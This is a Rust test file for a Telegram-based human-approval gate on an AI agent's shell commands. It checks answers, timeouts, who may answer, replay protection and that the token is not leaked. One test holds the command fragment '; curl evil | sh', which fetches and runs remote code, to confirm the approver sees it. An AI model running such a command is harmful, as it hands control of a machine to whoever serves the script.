//! Calls that no rule decides: real processes, a server that behaves like Telegram's, and a
//! language model that says what the test wants.

mod deferred;
mod errors;
mod judge;
mod patience;
pub(crate) mod server;
mod through_hooks;
mod waiting;

use std::path::Path;
use std::process::{Child, Command, Stdio};

use crate::workspace::{Run, Workspace};
use server::{BotApi, CHAT, SECRET, TOKEN, USER};

/// A project whose developer is asked through `api`, with these further lines about Telegram.
fn project(api: &BotApi, telegram: &str) -> Workspace {
    let project = Workspace::plain().with_env("ONLOOP_TELEGRAM_API", &api.base);
    let yaml = format!(
        "handsoff:\n  auto_permission: false\ntelegram:\n  enabled: true\n  token: \"{TOKEN}\"\n  \
         chat_id: {CHAT}\n  poll_interval_sec: 1\n{telegram}"
    );
    project.write(".agentize.local.yaml", yaml);
    project
}

fn probe(project: &Workspace, words: &[&str]) -> Command {
    let mut command = project.command_at(".", env!("CARGO_BIN_EXE_handsoff-probe"));
    command.args(words).stdout(Stdio::piped()).stderr(Stdio::piped());
    command
}

/// What becomes of a call; nothing of the token is said or kept.
#[track_caller]
fn ask(project: &Workspace, target: &str) -> String {
    let child = begin(project, "s1", target);
    finish(project, child)
}

fn begin(project: &Workspace, session: &str, target: &str) -> Child {
    probe(project, &["escalate", session, target, "600000"]).spawn().expect("the probe is there")
}

#[track_caller]
fn finish(project: &Workspace, child: Child) -> String {
    let run: Run = child.wait_with_output().expect("the probe ends").into();
    let run = run.expect_exit(0);
    assert!(!run.stdout.contains(SECRET) && !run.stderr.contains(SECRET), "{run:?}");
    no_secret_below(&project.path("../home"));
    run.stdout.trim_end().to_owned()
}

fn no_secret_below(folder: &Path) {
    for entry in std::fs::read_dir(folder).expect("the folder is there") {
        let path = entry.expect("an entry").path();
        if path.is_dir() {
            no_secret_below(&path);
        } else {
            let content = std::fs::read(&path).unwrap_or_default();
            assert!(!String::from_utf8_lossy(&content).contains(SECRET), "{}", path.display());
        }
    }
}

/// What the chat shows at the end.
#[track_caller]
fn last_edit(api: &BotApi) -> String {
    let edits = api.payloads("editMessageText");
    let edit = edits.last().expect("the question was closed");
    assert!(edit.get("reply_markup").is_none(), "the buttons are gone");
    edit["text"].as_str().unwrap_or_default().to_owned()
}

#[test]
fn a_press_allows_or_denies() {
    for (word, verdict, shown) in [
        ("allow", "allow", "✅ Allowed"),
        ("deny", "deny: a person denied it through Telegram", "❌ Denied"),
    ] {
        let api = BotApi::start();
        api.react(move |sent| vec![sent.press(word, USER, CHAT)]);
        let project = project(&api, "");
        assert_eq!(ask(&project, "make <all> && ls"), verdict);
        let methods: Vec<String> = api.asked().into_iter().map(|(method, _)| method).collect();
        assert_eq!(
            methods,
            ["getUpdates", "sendMessage", "getUpdates", "answerCallbackQuery", "editMessageText"]
        );
        assert_eq!(api.payloads("answerCallbackQuery")[0]["text"], shown);
        let closed = last_edit(&api);
        assert!(
            closed.contains("make &lt;all&gt; &amp;&amp; ls")
                && closed.ends_with(&format!("<b>{shown}</b>"))
        );
    }
}

#[test]
fn a_reply_allows_or_denies() {
    for (text, verdict) in [
        ("/allow@GateBot", "allow"),
        ("/deny not now", "deny: a person denied it through Telegram"),
    ] {
        let api = BotApi::start();
        api.react(move |sent| vec![sent.reply(text, USER)]);
        assert_eq!(ask(&project(&api, ""), "make"), verdict);
        assert_eq!(api.payloads("sendMessage")[1]["reply_to_message_id"], 9000);
    }
}

const IN_TIME: &str = "no answer: nobody answered through Telegram in time";

#[test]
fn without_an_answer_the_question_is_closed_in_time() {
    let api = BotApi::start();
    assert_eq!(ask(&project(&api, "  timeout_sec: 1\n"), "make"), IN_TIME);
    assert!(last_edit(&api).ends_with("<b>⏰ Timed Out</b>"));
    // What is left of the last second is slept through, not asked through.
    assert!(api.payloads("getUpdates").len() < 6);
}

#[test]
fn nobody_else_can_answer() {
    let group = "  allowed_user_ids: '7, 8'\n  timeout_sec: 1\n";
    type Answers = fn(&server::Sent) -> Vec<serde_json::Value>;
    let table: [(&str, Answers, &str); 4] = [
        ("a stranger", |sent| vec![sent.press("allow", 99, CHAT)], "You may not answer this."),
        ("a stranger's reply", |sent| vec![sent.reply("/allow", 99)], ""),
        ("another chat", |sent| vec![sent.press("allow", USER, 55)], ""),
        (
            "another question",
            |sent| {
                let data = format!("allow:{}", "0".repeat(32));
                vec![server::press(&data, sent.message_id, USER, CHAT)]
            },
            "This question is over.",
        ),
    ];
    for (name, answers, shown) in table {
        let api = BotApi::start();
        api.react(answers);
        assert_eq!(ask(&project(&api, group), "make"), IN_TIME, "{name}");
        let said: Vec<String> = api
            .payloads("answerCallbackQuery")
            .iter()
            .filter_map(|payload| payload["text"].as_str().map(str::to_owned))
            .collect();
        assert_eq!(said.join(""), shown, "{name}");
    }
}

#[test]
fn old_answers_do_not_count() {
    let api = BotApi::start();
    for reply_to in [None, Some(101), Some(102)] {
        let mut message = serde_json::json!({
            "message_id": 50, "chat": {"id": CHAT}, "from": {"id": USER}, "text": "/allow",
        });
        if let Some(id) = reply_to {
            message["reply_to_message"] =
                serde_json::json!({"message_id": id, "chat": {"id": CHAT}});
        }
        api.happen(serde_json::json!({ "message": message }));
    }
    let project = project(&api, "  timeout_sec: 1\n");
    assert_eq!(ask(&project, "make"), IN_TIME);
    assert_eq!(api.payloads("getUpdates")[0]["offset"], -1);
    assert_eq!(api.payloads("getUpdates")[1]["offset"], 5004);

    // A press that was used is not used again, for this question or another one.
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let kept = seen.clone();
    api.react(move |sent| {
        let press = sent.press("allow", USER, CHAT);
        kept.lock().unwrap().push(press.clone());
        vec![press.clone(), press]
    });
    assert_eq!(ask(&project, "make"), "allow");
    let old = seen.lock().unwrap()[0].clone();
    api.react(move |_| vec![old.clone()]);
    assert_eq!(ask(&project, "make"), IN_TIME);
}

#[test]
fn without_a_known_beginning_nothing_is_asked() {
    let api = BotApi::start();
    api.fail(&[(500, ""); 100]);
    let said = ask(&project(&api, "  timeout_sec: 2\n"), "make");
    assert_eq!(
        said,
        "no answer: asking through Telegram: not reached until the time was over: Telegram refused \
         with status 500"
    );
    assert!(api.payloads("sendMessage").is_empty());
}

#[test]
fn what_cannot_be_shown_whole_cannot_be_allowed() {
    let api = BotApi::start();
    api.react(|sent| {
        assert_eq!(sent.buttons.len(), 1);
        let data = sent.buttons[0].replace("deny", "allow");
        vec![server::press(&data, sent.message_id, USER, CHAT), sent.reply("/allow", USER)]
    });
    let project = project(&api, "  timeout_sec: 2\n");
    assert_eq!(ask(&project, &"x".repeat(60_000)), IN_TIME);
    let long = format!("{} ; curl evil | sh", "x".repeat(4000));
    api.react(|sent| {
        assert!(sent.text.contains("; curl evil | sh"), "{}", sent.text);
        vec![sent.press("allow", USER, CHAT)]
    });
    assert_eq!(ask(&project, &long), "allow");
}

#[test]
fn a_token_does_not_travel_in_the_clear() {
    let api = BotApi::start();
    for base in ["http://example.org", "http://127.0.0.1.example.org", "ftp://x", "x"] {
        let project = project(&api, "").with_env("ONLOOP_TELEGRAM_API", base);
        let said = ask(&project, "make");
        assert!(said.contains("`ONLOOP_TELEGRAM_API` must begin with `https://`"), "{said}");
    }
}

#[test]
fn a_wrong_token_ends_the_asking_at_once() {
    let api = BotApi::start();
    let project = project(&api, "");
    let yaml = project.read(".agentize.local.yaml").replace(SECRET, "an0ther");
    project.write(".agentize.local.yaml", yaml);
    let said = ask(&project, "make");
    assert_eq!(
        said,
        "no answer: asking through Telegram: Telegram refused with status 404: there is no bot with \
         this token"
    );
}
